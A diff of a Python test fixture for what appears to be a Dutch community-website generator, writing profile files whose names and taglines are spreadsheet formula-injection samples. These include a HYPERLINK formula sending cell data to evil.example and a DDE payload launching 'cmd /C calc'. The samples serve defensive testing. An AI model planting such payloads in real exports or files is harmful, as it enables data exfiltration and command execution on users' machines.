@@ -51,10 +51,10 @@ def hostile_site(tmp_path_factory):
     (content / "stories" / "een-klein-verhaal.md").write_text(story, encoding="utf-8")
     formulas = {"formule-a": ('=HYPERLINK("https://evil.example/?"&A1;"Klik")', "+31 6 12345678"),
                 "formule-b": ("@SUM(1+1)*cmd|' /C calc'!A0", "-2+3 zegt de smid"),
-                "formule-c": (" =1+1", "\t=1")}
+                "formule-c": (" =1+1", "\uff1d1+1")}
     for slug, (name, tagline) in formulas.items():
         profile = (MINIMAL_PROFILE.replace('"Jan de Vries"', yaml_string(name))
-                   .replace("photo: images/foto.jpg\n", "").replace('photo_alt: "Jan in de smidse"\n', ""))
+                   .replace("photo: images/profiles/jan-de-vries.jpg\n", "").replace('photo_alt: "Jan in de smidse"\n', ""))
         profile += f"tagline: {yaml_string(tagline)}\n"
         (content / "profiles" / f"{slug}.yaml").write_text(profile, encoding="utf-8")
     event = (content / "events" / "open-dag.md").read_text(encoding="utf-8")
